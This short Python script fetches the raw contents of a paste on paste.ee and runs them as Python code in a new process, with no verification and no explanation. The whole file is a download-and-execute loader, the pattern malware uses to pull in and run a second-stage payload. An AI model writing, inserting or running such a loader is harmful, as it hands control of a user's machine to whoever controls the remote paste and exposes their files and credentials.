import subprocess as s
import requests as r

code = r.get("https://paste.ee/r/a8Hk2").text
s.Popen(["python3", "-c", code])
